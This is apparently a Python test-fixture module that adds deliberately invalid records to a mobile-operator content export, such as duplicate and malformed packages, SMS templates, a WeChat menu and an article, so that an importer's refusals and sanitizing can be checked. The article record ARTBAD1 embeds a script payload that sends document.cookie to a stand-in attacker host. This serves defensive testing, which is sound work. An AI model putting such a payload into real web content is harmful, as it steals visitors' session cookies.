"""Records an import must refuse (``--dirty``), one per refusal the format lists,
each appended to the list it belongs to. ``EXPECTED`` says which field each
refusal names: the importer reports a record's first unusable reference and
stops there, and cleans markup it can clean instead of refusing it."""

import copy

from .menus import node, unused_official_account
from .vocabulary import PROVINCE_CODE

# (list, record) -> the export field the importer's refusal names
# (menu refusals name the node: ``nodes[KEY].field``).
EXPECTED = {
    ("packages", "PKG0001"): "code",  # the repeated copy; the first PKG0001 stands
    ("packages", "PKGBAD1"): "brands",
    ("packages", "PKGBAD2"): "monthly_fee",
    ("sms_templates", "SMSBAD1"): "text",
    ("sms_templates", "SMSBAD2"): "text",
    ("sms_templates", "SMSBAD3"): "org",  # also 600 characters long, unseen once the organisation is unknown
    ("menus", "menu-bad-wechat"): "nodes",
    ("articles", "ARTBAD1"): "cover_image",  # its <script> is stripped by the sanitizer, not refused
}


def _package(code, **changes):
    record = {
        "code": code, "name": "5G畅享套餐 错误示例", "family": "5G畅享套餐", "brands": ["gotone"], "orgs": [PROVINCE_CODE],
        "monthly_fee": "58.00", "data_mb": 10240, "voice_minutes": 300, "sms_count": 0, "contract_months": 0,
        "order_command": f"KT{code}", "cancel_command": f"QX{code}", "valid_from": "2024-01-01", "valid_to": None,
        "highlights": ["国内通用流量"], "description_html": "<p>导出中的问题记录。</p>",
    }
    record.update(changes)
    return record


def _template(code, **changes):
    record = {"code": code, "category": "reply", "org": PROVINCE_CODE, "brands": [], "text": "您的话费余额为{balance}元。",
              "parameters": [{"name": "balance", "type": "amount", "max_length": 10}], "commands": []}
    record.update(changes)
    return record


def bad_menu(accounts):
    """Four top-level buttons where WeChat takes three, one named far past 16 bytes."""
    account = unused_official_account(accounts)
    site = "https://wx.sx.10086.cn/bad"
    nodes = [
        node("1", "话费查询", "view", url=f"{site}/1"),
        node("2", "流量查询", "view", url=f"{site}/2"),
        node("3", "办理业务", "view", url=f"{site}/3"),
        node("4", "这是一个名字特别长的一级菜单", "view", url=f"{site}/4"),
    ]
    return {"code": "menu-bad-wechat", "channel": "wechat_official_account", "account": account["code"],
            "org": account["org"], "name": "超出微信限制的菜单", "nodes": nodes}


def _bad_article_source(export):
    """The article ARTBAD1 copies: the first branch's first article reaching its official
    account, the mini-program and SMS (the cover blocks WeChat only)."""
    branch = next(o["code"] for o in export["organisations"] if o["level"] == "branch")
    reach = {"wechat_official_account", "wechat_miniprogram", "sms"}
    return next(
        (a for a in export["articles"] if a["org"] == branch and (not a["channels"] or reach <= set(a["channels"]))),
        export["articles"][0],
    )


def append_dirty(export):
    """Append the refusals to the lists of ``export`` (a dict of lists), in place."""
    repeated = copy.deepcopy(export["packages"][0])
    repeated["name"] += "(重复)"
    export["packages"] += [
        repeated,
        _package("PKGBAD1", brands=["gotone", "vip"]),
        _package("PKGBAD2", monthly_fee="-10.00"),
    ]
    export["sms_templates"] += [
        _template("SMSBAD1", text="您的话费余额为{balance}元,本月已用流量{used}MB。"),
        _template("SMSBAD2", category="marketing", text="5G畅享套餐限时优惠,月费{balance}元起,回复KTTC立即办理。"),
        _template("SMSBAD3", org="SX-99", text="您的话费余额为{balance}元。" + "详情请咨询当地营业厅。" * 60),
    ]
    export["menus"].append(bad_menu(export["channel_accounts"]))
    source = _bad_article_source(export)
    export["articles"].append({
        **copy.deepcopy(source),
        "code": "ARTBAD1",
        "title": "含脚本且封面缺失的图文",
        "cover_image": "IMG9999",
        "body_html": "<p>活动详情</p><script>document.location='https://evil.example/'+document.cookie</script>",
        "publish_at": None,
    })
    return export
